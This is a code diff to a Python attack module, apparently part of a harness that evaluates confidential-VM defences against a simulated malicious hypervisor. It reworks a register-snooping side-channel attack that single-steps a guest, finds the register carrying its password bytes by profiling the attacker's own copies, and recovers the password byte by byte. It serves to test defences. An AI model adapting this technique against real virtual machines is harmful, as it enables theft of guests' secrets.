@@ -12,11 +12,14 @@ reads the registers whenever the guest stops; the timer makes it stop often.
   chosen secret's — is the same whatever the secret.  It reads the victim's register
   there; the bits that followed the secret in every profile are known, the others (a bit
   the guest forces, say) unknown.
-- A victim that reads input lines and has a compare routine in its public symbols
-  (``check_password``): the host feeds the inputs.  It single-steps the early-exit compare
-  of each attempt, reads the password length from the 4th argument register at its entry
-  and, after each byte load (the first ``movzx`` of the routine), the byte just loaded.
-  Each attempt reveals one more byte: known prefix + filler.
+- A victim that reads input lines: the host feeds the inputs and single-steps each attempt
+  from the read to the answer.  Where the secret's bytes pass through a register it learns
+  on its own copies (at ``plain``, secrets it chose, each fed attempts with its first 0, 1
+  and 2 bytes right, then filler): the (RIP, register) whose low byte, at the i-th step
+  ending at that RIP, is the secret's byte i for every byte matched and the first one
+  that was not — a byte the victim loads to compare, not the attacker's input.  On the
+  victim each attempt then shows one more byte (known prefix + filler), up to the
+  declared size.  No symbol or routine name is used.
 
 From ``sev-es`` up the state is ciphertext (deterministic, then sealed): the first exit
 shows it does not parse, the host stops snooping and makes no guess.
@@ -25,13 +28,9 @@ shows it does not parse, the host stops snooping and makes no guess.
 from __future__ import annotations
 
 import random
-from collections.abc import Iterator
-
-import capstone
-from capstone import x86_const
+from collections.abc import Callable, Iterator
 
 from tvmm.abi.messages import ExitRecord, Reply
-from tvmm.guestimage import GuestImage
 from tvmm.host.devices import InputDevice
 from tvmm.host.hypervisor import HonestHypervisor
 from tvmm_tools.attacks._decode import (
@@ -51,7 +50,8 @@ from tvmm_tools.attacks.base import Attack, AttackContext, Outcome, not_applicab
 SNOOP_QUANTUM = 37  # stops the guest every 37 instructions; ≥ any step policy's minimum
 MAX_EXITS = 20_000
 MIN_TRACKING = 16  # bits of a word that must follow the secret to call a register its home
-COMPARE = "check_password"
+FILLER = b"\x01"  # what the attacker types where it knows nothing yet
+PROFILE_PREFIXES = 3  # own attempts per profiled secret: 0, 1, 2 bytes right, then FILLER
 
 
 class RegisterSnoop(Attack):
@@ -66,10 +66,7 @@ class RegisterSnoop(Attack):
         if declared_secret_bytes(ctx.guest) == 0:
             return not_applicable("the victim declares no secret")
         if asks_for_input(ctx):
-            if not any(name == COMPARE for _a, _s, name in ctx.image.symbols):
-                return not_applicable(f"an input-driven victim without a {COMPARE} routine "
-                                      "in its symbols")
-            return _password(ctx)
+            return _lines(ctx)
         return _words(ctx)
 
 
@@ -163,49 +160,28 @@ def _words(ctx: AttackContext) -> Outcome:
                    hosts=[host], exits=exits + spent, notes=notes)
 
 
-# -- password ----------------------------------------------------------------------------------
-def _byte_load(image: GuestImage, symbol: str) -> tuple[int, int, str]:
-    """(address, length, 64-bit destination register) of the compare's byte load: the
-    first ``movzx reg, byte [mem]`` of ``symbol`` in the public binary."""
-    start = image.symbol(symbol)
-    size = next(s for a, s, n in image.symbols if n == symbol)
-    page = next(p for p in image.pages if p.gpa <= start < p.gpa + len(p.data))
-    code = page.data[start - page.gpa : start - page.gpa + size]
-    md = capstone.Cs(capstone.CS_ARCH_X86, capstone.CS_MODE_64)
-    md.detail = True
-    for insn in md.disasm(code, start):
-        if insn.mnemonic == "movzx" and insn.operands[1].type == x86_const.X86_OP_MEM:
-            dest = insn.reg_name(insn.operands[0].reg)
-            return insn.address, insn.size, _wide(dest)
-    raise LookupError(f"no byte load in {symbol}")
+# -- input-driven victims -------------------------------------------------------------------
+def _lines_profile(nbytes: int) -> list[tuple[str, bytes]]:
+    """The attacker's chosen secrets for profiling an input-driven victim: printable bytes,
+    none equal to FILLER, from a fixed stream (the profile is kept and reused)."""
+    rng = random.Random(2)
+    return [(f"chosen{i}", bytes(rng.randrange(0x21, 0x7F) for _ in range(nbytes)))
+            for i in range(2)]
 
 
-def _wide(reg: str) -> str:
-    if reg.startswith("e"):
-        return "r" + reg[1:]
-    if reg.startswith("r") and reg[-1] == "d":
-        return reg[:-1]
-    return reg
+class _LineSnoop(HonestHypervisor):
+    """Feeds input lines (``lines(host)``: read lazily, so it may look at what the host
+    has learned), single-steps each attempt from the read to the answer and keeps, at
+    every step, RIP and the low byte of every register."""
 
-
-class _PasswordSnoop(HonestHypervisor):
-    def __init__(self, *args, entry: int, load: tuple[int, int, str], **kwargs) -> None:
+    def __init__(self, *args, lines: Callable[[_LineSnoop], Iterator[bytes]],
+                 after: Callable[[_LineSnoop], None] | None = None, **kwargs) -> None:
         super().__init__(*args, **kwargs)
-        self.entry = entry
-        self.load_next = load[0] + load[1]
-        self.load_reg = load[2]
         self.stepping = False
         self.readable: bool | None = None
-        self.pwlen: int | None = None
-        self.known = b""
-        self.loads: list[int] = []
-        self.attempts = 0
-        self.devices.input = InputDevice(self.guesses())
-
-    def guesses(self) -> Iterator[bytes]:
-        yield b"a"  # any length: the compare's entry shows the real one
-        while self.readable and self.pwlen is not None and len(self.known) < self.pwlen:
-            yield self.known + b"a" * (self.pwlen - len(self.known))
+        self.attempts: list[list[tuple[int, tuple[int, ...]]]] = []
+        self.after = after
+        self.devices.input = InputDevice(lines(self))
 
     def enter(self) -> Reply:
         self.quantum = 1 if self.stepping else 0
@@ -216,37 +192,88 @@ class _PasswordSnoop(HonestHypervisor):
         if self.readable is None:
             self.readable = regs is not None
         if self.stepping and regs is not None:
-            if regs["rip"] == self.entry and self.pwlen is None:
-                self.pwlen = regs["rcx"]  # the 4th argument: pwlen
-            elif regs["rip"] == self.load_next:
-                self.loads.append(regs[self.load_reg] & 0xFF)
+            self.attempts[-1].append((regs["rip"], tuple(regs[n] & 0xFF for n in REG_NAMES)))
         if is_console_write(rec) and self.stepping:
             self.stepping = False
-            self.attempts += 1
-            if len(self.loads) > len(self.known):
-                self.known = bytes(self.loads)
-            self.loads = []
+            if self.after is not None:
+                self.after(self)
         alive = super().on_exit(rec)
         if is_input_read(rec) and self.readable:
             self.stepping = True  # step from the completion to the answer
+            self.attempts.append([])
         return alive
 
 
-def _password(ctx: AttackContext) -> Outcome:
-    try:
-        load = _byte_load(ctx.image, COMPARE)
-    except LookupError as exc:
-        return not_applicable(str(exc))
-    host = ctx.host(_PasswordSnoop, entry=ctx.image.symbol(COMPARE), load=load)
+def _at(attempt: list, rip: int, reg: int) -> list[int]:
+    """The low byte of register ``reg`` at each step of ``attempt`` that ended at ``rip``."""
+    return [values[reg] for r, values in attempt if r == rip]
+
+
+def _own_lines(ctx: AttackContext, secret: bytes) -> tuple[list, int]:
+    """An own copy holding ``secret``, fed its first j bytes then FILLER, for j = 0, 1, 2:
+    each attempt's steps (the profile's events)."""
+    n = len(secret)
+    tries = [secret[:j] + FILLER * (n - j) for j in range(min(PROFILE_PREFIXES, n))]
+    host = ctx.host(_LineSnoop, lines=lambda _h: iter(tries))
+    own_launch(ctx, host, secret)
+    host.run(max_exits=MAX_EXITS)
+    host.destroy()  # the attacker's own VM: not for the judge
+    return host.attempts[: len(tries)], sum(host.exits.values())  # not the end of input
+
+
+def _byte_home(profiles: list[tuple[bytes, list]]) -> tuple[int, int] | None:
+    """(RIP, register) where, on every own run, the register's low byte at the i-th step
+    ending at that RIP is the secret's byte i for every byte the attempt's input matched
+    and the first it did not (so it is the secret's byte, not the input's); None if no
+    such place.  The earliest such step of the first profile."""
+    _secret, attempts0 = profiles[0]
+    if not attempts0:
+        return None
+    for rip, _values in attempts0[-1]:
+        for reg in range(len(REG_NAMES)):
+            if all(len(seen := _at(attempt, rip, reg)) > j
+                   and seen[: j + 1] == list(secret[: j + 1])
+                   for secret, attempts in profiles
+                   for j, attempt in enumerate(attempts)):
+                return rip, reg
+    return None
+
+
+def _lines(ctx: AttackContext) -> Outcome:
+    nbytes = declared_secret_bytes(ctx.guest)
+    profiles, spent = cached_profiles(ctx, "register-snoop-lines", _lines_profile(nbytes),
+                                      lambda secret: _own_lines(ctx, secret))
+    home = _byte_home(profiles)
+    if home is None:
+        return not_applicable("no register carries the secret's bytes on own profiled runs",
+                              exits=spent)
+    rip, reg = home
+    known = bytearray()
+
+    def guesses(host: _LineSnoop) -> Iterator[bytes]:
+        yield FILLER * nbytes
+        while host.readable and len(known) < nbytes:
+            before = len(known)
+            yield bytes(known) + FILLER * (nbytes - len(known))
+            if len(known) == before:
+                return  # no progress: the place read is not the secret's here
+
+    def read(host: _LineSnoop) -> None:
+        loads = _at(host.attempts[-1], rip, reg)[:nbytes]
+        if len(loads) > len(known):
+            known[:] = bytes(loads)
+
+    host = ctx.host(_LineSnoop, lines=guesses, after=read)
     ctx.launch(host)
     result = host.run(max_exits=200_000)
-    exits = sum(result.exits.values())
-    ctx.record("snoop", attempts=host.attempts, known=len(host.known))
+    exits = sum(result.exits.values()) + spent
+    ctx.record("snoop", attempts=len(host.attempts), known=len(known))
     if not host.readable:
         return Outcome(guess=None, hosts=[host], exits=exits, notes={
             "detail": "the save area is ciphertext: no register readable", "readable": False})
-    guess = host.known if host.known else None
-    return Outcome(guess=guess, hosts=[host], exits=exits, notes={
-        "detail": f"length {host.pwlen} from the compare's argument, {len(host.known)} "
-                  f"bytes read from the byte load in {host.attempts} attempts",
-        "readable": True, "attempts": host.attempts})
+    guess = bytes(known).ljust(nbytes, b"\0") if known else None
+    mask = (b"\xff" * len(known)).ljust(nbytes, b"\0") if known else None
+    return Outcome(guess=guess, known=mask, hosts=[host], exits=exits, notes={
+        "detail": f"{len(known)} of {nbytes} bytes read from {REG_NAMES[reg]} at RIP "
+                  f"{rip:#x} (found on own profiled runs) in {len(host.attempts)} attempts",
+        "readable": True, "attempts": len(host.attempts)})
